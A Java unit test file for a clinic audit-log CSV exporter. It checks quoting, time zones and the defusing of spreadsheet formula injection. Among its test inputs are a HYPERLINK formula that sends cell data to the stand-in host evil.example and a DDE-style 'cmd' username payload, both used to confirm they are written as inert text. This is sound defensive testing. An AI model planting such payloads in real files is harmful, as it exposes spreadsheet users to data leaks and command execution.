package org.hearth.audit;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AuditCsvTest {

    private static final String HEADER =
            "time,user,roles,action,entity type,entity id,family id,client address,outcome,reason\r\n";
    private static final ZoneId CLINIC = ZoneId.of("America/New_York");
    private static final Instant WHEN = Instant.parse("2026-03-14T13:26:53.589793Z");

    @Test
    void writesTheHeaderEvenWhenThereIsNothingElse() throws IOException {
        StringWriter out = new StringWriter();

        long written = AuditCsv.write(Stream.empty(), CLINIC, out);

        assertThat(out).hasToString(HEADER);
        assertThat(written).isZero();
    }

    @Test
    void writesOneRowPerEntryWithTheTimeInTheClinicsZone() throws IOException {
        AuditEntry read = new AuditEntry(
                WHEN,
                "mgarcia",
                "counselor",
                AuditEvent.allowedOnFamily(AuditAction.READ_NOTE, "SessionNote", 981, 42),
                "10.0.4.17");
        AuditEntry refused = new AuditEntry(
                WHEN.plusSeconds(60),
                "front.desk",
                "front_desk",
                AuditEvent.deniedOnFamily(AuditAction.READ_FAMILY, 42, "not on the caseload"),
                "10.0.4.18");

        String csv = write(read, refused);

        assertThat(csv)
                .isEqualTo(
                        HEADER
                                + "2026-03-14T09:26:53.589793-04:00,mgarcia,counselor,READ_NOTE,SessionNote,981,42,10.0.4.17,ALLOWED,\r\n"
                                + "2026-03-14T09:27:53.589793-04:00,front.desk,front_desk,READ_FAMILY,Family,42,42,10.0.4.18,DENIED,not on the caseload\r\n");
    }

    @Test
    void writesTimesWithTheOffsetOfTheZoneGiven() throws IOException {
        StringWriter out = new StringWriter();

        AuditCsv.write(List.of(entry("ana")).iterator(), ZoneOffset.UTC, out);

        assertThat(out.toString()).contains("\r\n2026-03-14T13:26:53.589793Z,ana,");
    }

    @Test
    void fieldsAnEntryDoesNotHaveAreEmptyCells() throws IOException {
        AuditEntry signIn =
                new AuditEntry(WHEN, "anonymous", "", AuditEvent.allowed(AuditAction.SIGN_IN, null, null), null);

        assertThat(write(signIn)).endsWith("\r\n2026-03-14T09:26:53.589793-04:00,anonymous,,SIGN_IN,,,,,ALLOWED,\r\n");
    }

    @Test
    void quotesCellsHoldingACommaAQuoteOrALineBreakAndDoublesTheQuotes() {
        assertThat(AuditCsv.cell("counselor,supervisor")).isEqualTo("\"counselor,supervisor\"");
        assertThat(AuditCsv.row("=SUM(A1)", null, "a,b")).isEqualTo("'=SUM(A1),,\"a,b\"\r\n");
        assertThat(AuditCsv.cell("said \"no\"")).isEqualTo("\"said \"\"no\"\"\"");
        assertThat(AuditCsv.cell("first line\r\nsecond")).isEqualTo("\"first line\r\nsecond\"");
        assertThat(AuditCsv.cell("first\nsecond")).isEqualTo("\"first\nsecond\"");
        assertThat(AuditCsv.cell("first\rsecond")).isEqualTo("\"first\rsecond\"");
        assertThat(AuditCsv.cell("\"")).isEqualTo("\"\"\"\"");
    }

    @Test
    void leavesOtherCellsAsTheyAre() {
        assertThat(AuditCsv.cell("NoteService.read: requires one of the roles [counselor]"))
                .isEqualTo("NoteService.read: requires one of the roles [counselor]");
        assertThat(AuditCsv.cell("/families/42/notes.xhtml")).isEqualTo("/families/42/notes.xhtml");
        assertThat(AuditCsv.cell("2001:db8::17")).isEqualTo("2001:db8::17");
        assertThat(AuditCsv.cell("María José")).isEqualTo("María José");
        assertThat(AuditCsv.cell("'quoted'")).isEqualTo("'quoted'");
        assertThat(AuditCsv.cell("")).isEmpty();
        assertThat(AuditCsv.cell(null)).isEmpty();
    }

    @ParameterizedTest(name = "starting with {0}")
    @ValueSource(strings = {"=", "+", "-", "@", "\t"})
    void aCellASpreadsheetWouldRunAsAFormulaStartsWithAQuote(String start) {
        assertThat(AuditCsv.cell(start + "HYPERLINK(\"http://evil.example/?\"&A1)"))
                .isEqualTo("\"'" + start + "HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
        assertThat(AuditCsv.cell(start + "1")).isEqualTo("'" + start + "1");
    }

    @Test
    void aCellStartingWithACarriageReturnIsDefusedAndQuoted() {
        assertThat(AuditCsv.cell("\r=1+1")).isEqualTo("\"'\r=1+1\"");
    }

    @Test
    void aFormulaCharacterInsideACellIsLeftAlone() {
        assertThat(AuditCsv.cell("a=b")).isEqualTo("a=b");
        assertThat(AuditCsv.cell("front-desk")).isEqualTo("front-desk");
        assertThat(AuditCsv.cell("m.garcia@clinic.example")).isEqualTo("m.garcia@clinic.example");
    }

    @Test
    void aUsernameMadeToRunAsAFormulaIsWrittenAsText() throws IOException {
        assertThat(write(entry("=cmd|' /C calc'!A0"))).contains(",'=cmd|' /C calc'!A0,");
    }

    @Test
    void writesEachRowBeforeReadingTheNextEntry() throws IOException {
        StringWriter out = new StringWriter();
        List<Integer> writtenWhenRead = new ArrayList<>();
        Iterator<AuditEntry> entries =
                List.of(entry("ana"), entry("ben"), entry("cy")).iterator();
        Iterator<AuditEntry> watched = new Iterator<>() {
            @Override
            public boolean hasNext() {
                return entries.hasNext();
            }

            @Override
            public AuditEntry next() {
                writtenWhenRead.add(out.toString().split("\r\n", -1).length - 1);
                return entries.next();
            }
        };

        long written = AuditCsv.write(watched, CLINIC, out);

        assertThat(written).isEqualTo(3);
        assertThat(writtenWhenRead).containsExactly(1, 2, 3);
    }

    private static AuditEntry entry(String username) {
        return new AuditEntry(
                WHEN, username, "counselor", AuditEvent.allowed(AuditAction.VIEW_PAGE, "Page", "/caseload"), null);
    }

    private static String write(AuditEntry... entries) throws IOException {
        StringWriter out = new StringWriter();
        AuditCsv.write(Stream.of(entries), CLINIC, out);
        return out.toString();
    }
}
